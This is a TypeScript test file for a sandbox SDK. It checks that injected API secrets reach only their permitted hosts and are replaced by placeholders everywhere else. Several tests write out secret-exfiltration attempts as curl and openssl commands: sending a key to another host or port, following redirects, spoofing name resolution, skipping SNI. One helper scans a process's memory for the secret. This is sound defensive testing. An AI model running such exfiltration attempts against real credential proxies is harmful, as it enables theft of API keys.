import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { randomBytes } from "node:crypto";
import { closeSync, openSync, readdirSync, readFileSync, readSync, statSync } from "node:fs";
import { join } from "node:path";
import { after, before, suite, test } from "node:test";
import { promisify } from "node:util";

import { Sandbox as OfficialSandbox } from "@deno/sandbox";
import { Client, Sandbox, type SandboxOptions } from "@skerry/sdk";

import { eventually } from "../support/eventually.ts";
import { makeTestHome } from "../support/machine-home.ts";
import { useServer } from "../support/official.ts";
import { api, other, startOrigins, type Origins, type Seen } from "../support/secret-origins.ts";
import { startServer, type TestServer } from "../support/server.ts";

const held = new AsyncDisposableStack();
const value = `sk-live-${randomBytes(12).toString("hex")}`;
const otherValue = `sk-other-${randomBytes(12).toString("hex")}`;
const wideValue = `wide "${randomBytes(12).toString("hex")}" & more`;
const placeholder = /^DENO_SECRET_PLACEHOLDER_[0-9a-f]{64}$/;
let origins: Origins;
let server: TestServer;
let client: Client;
let options: SandboxOptions;
let sandbox: Sandbox;

before(async () => {
  origins = held.use(await startOrigins());
  const args = ["--name-server", origins.names.address, "--trust", origins.trust];
  server = held.use(await startServer({ args }));
  client = new Client({ endpoint: server.url, token: server.token });
  options = {
    ...{ endpoint: server.url, token: server.token },
    allowNet: ["api.test", "other.test", "bad.test"],
    secrets: {
      KEY: { hosts: ["api.test", "bad.test"], value },
      OTHER: { hosts: ["other.test:8443"], value: otherValue },
      WIDE: { hosts: ["api.test"], value: wideValue, in: ["query", "body"] },
    },
  };
  sandbox = held.use(await Sandbox.create(options));
});
after(() => held.disposeAsync());

/** What a command prints, its errors too; it may fail. */
async function run(command: string, where: Sandbox = sandbox): Promise<string> {
  const { stdoutText, stderrText } = await where.sh`bash -c ${command}`
    .noThrow()
    .stdout("piped")
    .stderr("piped");
  return `${stdoutText ?? ""}${stderrText ?? ""}`;
}

/** The requests that have reached a server since this was asked for the last time. */
function requests(): readonly Seen[] {
  return origins.seen().filter(({ scheme }) => scheme !== "tls");
}

async function refusals(kind: string, where: Sandbox = sandbox): Promise<readonly object[]> {
  const events = await client.sandboxes.events(where.id);
  return events.filter((event) => event.kind === kind).map(({ detail }) => detail);
}

const curl = "curl -sS -m 15";
const python = (code: string): string => `python3 -c '${code}'`;

suite("a secret on a request to a host of its own", { timeout: 400_000 }, () => {
  for (const [program, command, version] of [
    ["curl", `${curl} -H "x-key: $KEY" https://api.test/`, "2.0"],
    ["curl, HTTP/1.1", `${curl} --http1.1 -H "x-key: $KEY" https://api.test/`, "1.1"],
    [
      "node",
      `node -e 'fetch("https://api.test/", { headers: { "x-key": process.env.KEY } }).then((r) => r.text()).then(console.log)'`,
      "1.1",
    ],
    [
      "deno",
      `deno eval 'console.log(await (await fetch("https://api.test/", { headers: { "x-key": Deno.env.get("KEY") } })).text())'`,
      "2.0",
    ],
    [
      "python",
      python(
        `import os, urllib.request as u; print(u.urlopen(u.Request("https://api.test/", headers={"x-key": os.environ["KEY"]})).read().decode())`,
      ),
      "1.1",
    ],
    ["wget", `wget -qO- --header="x-key: $KEY" https://api.test/`, "1.1"],
  ] as const) {
    test(`is used by ${program}, and the answer does not give it back`, async () => {
      assert.match(await run(command), new RegExp(`^seen \\*{${value.length}}\\s*$`));
      assert.deepEqual(
        requests().map(({ key, version: spoken }) => [key, spoken]),
        [[value, version]],
      );
    });
  }

  test("is inside of basic credentials", async () => {
    const said = await run(`${curl} -u "me:$KEY" -D- https://api.test/`);
    const basic = Buffer.from(`me:${value}`).toString("base64");
    assert.equal(requests()[0]?.authorization, `Basic ${basic}`);
    assert.ok(!said.includes(value));
  });

  test("is sent with a request that asks for another protocol", async () => {
    const code = `
      const { request } = await import("node:https");
      const asked = request("https://api.test/", { headers: { connection: "upgrade", upgrade: "echo", "x-key": process.env.KEY } });
      asked.on("upgrade", (_, socket, head) => { let got = head.toString(); socket.on("data", (d) => { got += d; if (got.endsWith("hello")) { console.log(got); process.exit(); } }); socket.write("hello"); });
      asked.end();`;
    await sandbox.fs.writeTextFile("/tmp/upgrade.mjs", code);
    assert.equal(await run("node /tmp/upgrade.mjs"), `key ${"*".repeat(value.length)}hello\n`);
    assert.deepEqual(requests(), [{ scheme: "upgrade", key: value }]);
  });

  test("is in a query and in a body where it may be there, and as they have it written", async () => {
    await run(`${curl} "https://api.test/?a=1&k=$WIDE"`);
    assert.equal(requests()[0]?.url, `/?a=1&k=${encodeURIComponent(wideValue)}`);
    const json = `${curl} -H "content-type: application/json" -d "{\\"k\\":\\"$WIDE\\"}" https://api.test/`;
    await run(json);
    assert.equal(requests()[0]?.body, JSON.stringify({ k: wideValue }));
    await run(`${curl} --data-urlencode "k=$WIDE" https://api.test/`);
    assert.equal(requests()[0]?.body, `k=${encodeURIComponent(wideValue)}`);
  });

  test("is not in a query or a body where it may not be there", async () => {
    await run(`${curl} -d "k=$KEY" "https://api.test/?k=$KEY"`);
    const [seen] = requests();
    assert.match(seen?.body?.slice(2) ?? "", placeholder);
    assert.match(seen?.url?.slice(4) ?? "", placeholder);
  });

  test("goes with a body of any size, which arrives whole", async () => {
    const command = `head -c 8000000 /dev/zero | ${curl} -T - -H "x-key: $KEY" https://api.test/`;
    assert.match(await run(command), /^seen \*+ /);
    assert.equal(requests()[0]?.key, value);
  });
});

suite("a secret that somebody wants to have", { timeout: 400_000 }, () => {
  test("is a placeholder in the machine", async () => {
    assert.match((await run("echo $KEY")).trim(), placeholder);
  });

  for (const [attack, command, seen] of [
    ["is sent to another host", `${curl} -k -H "x-key: $KEY" https://other.test/`, [other]],
    ["is sent to another port", `${curl} -k -H "x-key: $KEY" https://api.test:8443/`, [api]],
    [
      "follows a redirect to another host",
      `${curl} -k -L --location-trusted -H "x-key: $KEY" https://api.test/redirect`,
      [api, other],
    ],
    [
      "is sent to an address that another name leads to",
      `getent hosts other.test; ${curl} -k -H "x-key: $KEY" --resolve api.test:443:${other} https://api.test/`,
      [api],
    ],
    [
      "is sent without a name in the handshake",
      `getent hosts api.test; (printf "GET / HTTP/1.1\\r\\nhost: api.test\\r\\nx-key: $KEY\\r\\nconnection: close\\r\\n\\r\\n"; sleep 2) | openssl s_client -quiet -noservername -connect ${api}:443`,
      [api],
    ],
  ] as const) {
    test(`${attack}: nobody but its hosts gets it`, async () => {
      await run(command);
      const got = requests();
      assert.deepEqual(
        got.map(({ at }) => at?.split(":")[0]),
        seen,
      );
      for (const { at, key } of got) {
        if (at === `${api}:443`) assert.equal(key, value);
        else assert.match(key ?? "", placeholder);
      }
    });
  }

  for (const [attack, command, answer, kind, reason] of [
    [
      "the placeholder of one for another host is in a header",
      `${curl} -H "x-key: $OTHER" https://api.test/`,
      /SECRET_ELSEWHERE.*OTHER/,
      "secret-refused",
      "secret-elsewhere",
    ],
    [
      "the request is for another host than the connection",
      `${curl} -H "host: other.test" -H "x-key: $KEY" https://api.test/`,
      /OTHER_HOST/,
      "network-refused",
      "other-host",
    ],
    [
      "the connection is not encrypted",
      `${curl} -H "x-key: $KEY" http://api.test/`,
      /reset|empty reply/i,
      "secret-refused",
      "secret-in-clear",
    ],
    [
      "the server's certificate is another's",
      `${curl} -k -H "x-key: $KEY" https://bad.test/`,
      /alert/i,
      "network-refused",
      "bad-certificate",
    ],
    [
      "the connection is no HTTP",
      `(printf "\\x00\\x01\\x02 $KEY\\r\\n\\r\\n"; sleep 2) | openssl s_client -quiet -servername api.test -connect api.test:443`,
      /./,
      "network-refused",
      "no-http",
    ],
  ] as const) {
    test(`${attack}: nothing goes out, and the event log says why`, async () => {
      assert.match(await run(command), answer);
      assert.deepEqual(requests(), []);
      await eventually("the event", async () =>
        (await refusals(kind)).some((detail) => "reason" in detail && detail.reason === reason),
      );
    });
  }

  test("is nowhere in the machine's memory, nor in anything that the server has written", async () => {
    await run(`${curl} -H "x-key: $KEY" https://api.test/`);
    assert.equal(requests()[0]?.key, value);
    const [machine, ...more] = machinesOf(server.home);
    assert.ok(machine !== undefined && more.length === 0);
    assert.equal(memoryHas(machine, "DENO_SECRET_PLACEHOLDER_"), true, "the search finds things");
    assert.equal(memoryHas(machine, value), false);
    assert.ok(!server.output().includes(value));
    for (const file of filesBelow(server.home)) {
      assert.ok(!readFileSync(file).includes(value), file);
    }
    assert.ok(!JSON.stringify(await client.sandboxes.events(sandbox.id)).includes(value));
  });
});

suite("the secrets of a running sandbox", { timeout: 400_000 }, () => {
  const key = `${curl} -H "x-key: $KEY" https://api.test/`;

  test("change for programs that run", async () => {
    const next = `sk-next-${randomBytes(12).toString("hex")}`;
    await using mine = await Sandbox.create(options);
    const code = `
      const { Agent, request } = await import("node:https");
      const agent = new Agent({ keepAlive: true, maxSockets: 1 });
      for await (const _ of process.stdin) {
        const asked = request("https://api.test/", { agent, headers: { "x-key": process.env.KEY } }, (answer) => answer.resume().on("end", () => console.log("asked")));
        asked.end();
      }`;
    await mine.fs.writeTextFile("/tmp/loop.mjs", code);
    await using loop = await mine.spawn("node", {
      args: ["/tmp/loop.mjs"],
      ...{ stdin: "piped", stdout: "piped" },
    });
    const writer = loop.stdin?.getWriter();
    const output = loop.stdout?.getReader();
    await writer?.write(new TextEncoder().encode("go\n"));
    await output?.read();
    assert.equal(requests()[0]?.key, value);
    await mine.secrets.set("KEY", { value: next });
    await writer?.write(new TextEncoder().encode("go\n"));
    await output?.read();
    assert.equal(requests()[0]?.key, next);
    await mine.secrets.remove("KEY");
    await writer?.write(new TextEncoder().encode("go\n"));
    await output?.read();
    assert.match(requests()[0]?.key ?? "", placeholder);
    await mine.secrets.set("LATER", { hosts: ["api.test"], value: next });
    await run(`${curl} -H "x-key: $LATER" https://api.test/`, mine);
    assert.equal(requests()[0]?.key, next);
    assert.deepEqual(
      (await mine.secrets.list()).map(({ name }) => name),
      ["OTHER", "WIDE", "LATER"],
    );
  });

  test("are there without allowNet too, and QUIC is not", async () => {
    const { allowNet: _, ...open } = options;
    await using mine = await Sandbox.create(open);
    await run(key, mine);
    assert.equal(requests()[0]?.key, value);
    await run(`${curl} -k -H "x-key: $KEY" https://other.test/`, mine);
    assert.match(requests()[0]?.key ?? "", placeholder);
    const quic = python(
      `import socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(3); s.connect(("${api}",443)); s.send(b"x"); s.recv(9)`,
    );
    assert.match(await run(quic, mine), /refused|unreachable|not permitted|no route/i);
  });

  test("are there again after egress was killed", async () => {
    const [egress] = egressOf(server.process.pid ?? 0);
    assert.ok(egress !== undefined);
    process.kill(egress, "SIGKILL");
    await eventually(
      "another egress serves",
      async () => (await run(key)).startsWith("seen"),
      60_000,
    );
    assert.equal(requests().at(-1)?.key, value);
  });

  test("are there again after the server was restarted, and their hosts are told", async () => {
    await using stack = new AsyncDisposableStack();
    const home = stack.use(makeTestHome(process.env["SKERRY_HOME"]));
    const args = [
      "--keep-sandboxes",
      "--name-server",
      origins.names.address,
      "--trust",
      origins.trust,
    ];
    const first = await startServer({ home, args });
    const where = { endpoint: first.url, token: first.token };
    const made = await Sandbox.create({ ...options, ...where, timeout: "10m" });
    const { id } = made;
    await made.close();
    await first[Symbol.asyncDispose]();
    const second = stack.use(await startServer({ home, args }));
    const again = await Sandbox.connect({ id, endpoint: second.url, token: second.token });
    await run(key, again);
    assert.equal(requests()[0]?.key, value);
    assert.deepEqual((await again.secrets.list())[0], {
      ...{ name: "KEY", hosts: ["api.test:443", "bad.test:443"], in: ["header"] },
    });
    await again.kill();
  });
});

suite("the documents' secrets, with the official clients", { timeout: 400_000 }, () => {
  test("JavaScript", async () => {
    useServer(server);
    await using mine = await OfficialSandbox.create({
      allowNet: ["api.test"],
      secrets: { OPENAI_API_KEY: { hosts: ["api.test"], value } },
    });
    const said =
      await mine.sh`curl -sS -H "authorization: Bearer $OPENAI_API_KEY" https://api.test/v1`.text();
    assert.equal(said, `seen Bearer ${"*".repeat(value.length)}`);
    assert.equal(requests()[0]?.authorization, `Bearer ${value}`);
  });

  test("Python", async () => {
    const program = process.env["SKERRY_PYTHON"];
    assert.ok(program !== undefined, "SKERRY_PYTHON is not set: run the tests with npm test");
    const code = `
from deno_sandbox import DenoDeploy
sdk = DenoDeploy()
with sdk.sandbox.create(
    allow_net=["api.test"],
    secrets={"OPENAI_API_KEY": {"hosts": ["api.test"], "value": "${value}"}},
) as sandbox:
    child = sandbox.spawn("bash", args=["-c", 'curl -sS -H "authorization: Bearer $OPENAI_API_KEY" https://api.test/v1'], stdout="inherit")
    child.wait()
`;
    useServer(server);
    await promisify(execFile)(program, ["-c", code], { timeout: 400_000 });
    assert.equal(requests()[0]?.authorization, `Bearer ${value}`);
  });
});

function machinesOf(home: string): number[] {
  return processes(
    (args) => args.includes("-name") && args.some((arg) => arg.includes("qemu")),
  ).filter((pid) =>
    readFileSync(`/proc/${pid}/mountinfo`, "utf8").includes(home.split("/").at(-1) ?? ""),
  );
}

function egressOf(parent: number): number[] {
  return processes((args) => args.some((arg) => arg.endsWith("/egress/src/main.ts"))).filter(
    (pid) => readFileSync(`/proc/${pid}/stat`, "utf8").split(" ")[3] === String(parent),
  );
}

function processes(isWanted: (args: readonly string[]) => boolean): number[] {
  return readdirSync("/proc")
    .filter((entry) => /^\d+$/.test(entry))
    .filter((pid) => {
      try {
        return isWanted(readFileSync(`/proc/${pid}/cmdline`, "utf8").split("\0"));
      } catch {
        return false; // it has ended
      }
    })
    .map(Number);
}

/** Whether a text is anywhere in the memory of a process. */
function memoryHas(pid: number, text: string): boolean {
  const memory = openSync(`/proc/${pid}/mem`, "r");
  const needle = Buffer.from(text);
  const block = Buffer.alloc(16 * 1_048_576 + needle.length);
  try {
    for (const line of readFileSync(`/proc/${pid}/maps`, "utf8").split("\n")) {
      const [, start, end] = /^([0-9a-f]+)-([0-9a-f]+) r/.exec(line) ?? [];
      if (start === undefined || end === undefined || line.includes("[v")) continue;
      const last = Number.parseInt(end, 16);
      for (let at = Number.parseInt(start, 16); at < last; at += 16 * 1_048_576) {
        const size = Math.min(block.length, last - at);
        const count = readSync(memory, block, 0, size, at);
        if (block.subarray(0, count).includes(needle)) return true;
      }
    }
    return false;
  } finally {
    closeSync(memory);
  }
}

/** Files of the server's own; those of images and templates are from before it. */
function filesBelow(directory: string): string[] {
  return readdirSync(directory, { recursive: true, encoding: "utf8" })
    .map((name) => join(directory, name))
    .filter((file) => !file.includes("/templates/") && !file.includes("/run/gateway"))
    .filter((file) => statSync(file).isFile() && statSync(file).size < 1_000_000_000);
}
